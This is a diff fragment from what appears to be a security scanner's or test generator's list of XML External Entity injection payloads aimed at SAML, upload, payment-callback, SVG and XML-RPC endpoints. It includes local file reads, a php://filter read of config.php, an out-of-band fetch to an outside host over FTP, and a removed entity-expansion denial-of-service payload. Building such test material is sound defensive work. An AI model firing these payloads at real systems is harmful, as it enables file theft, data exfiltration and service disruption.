@@ -129,7 +129,6 @@ POST /saml/acs ¦¦ <!DOCTYPE r [<!ELEMENT r ANY><!ENTITY sp SYSTEM "{inside}">]
 POST /upload/xlsx ¦¦ <?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "{inside}">]><Types>&xxe;</Types>
 POST /wxpay/callback ¦¦ <!DOCTYPE root [<!ENTITY % remote SYSTEM "ftp://{outside}/{word}">%remote;]><root/>
 POST /api/svg ¦¦ <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY f SYSTEM "file:///{secret}">]><svg><text>&f;</text></svg>
-POST /opc/discovery ¦¦ <?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>
 POST /xmlrpc ¦¦ <!DOCTYPE m [<!ENTITY p SYSTEM "php://filter/convert.base64-encode/resource=config.php">]><methodCall><methodName>&p;</methodName></methodCall>
 POST /services/BpmService?wsdl ¦¦ <!DOCTYPE a PUBLIC "-//B/A/EN" "{inside}"><soap:Envelope/>
 """}, """
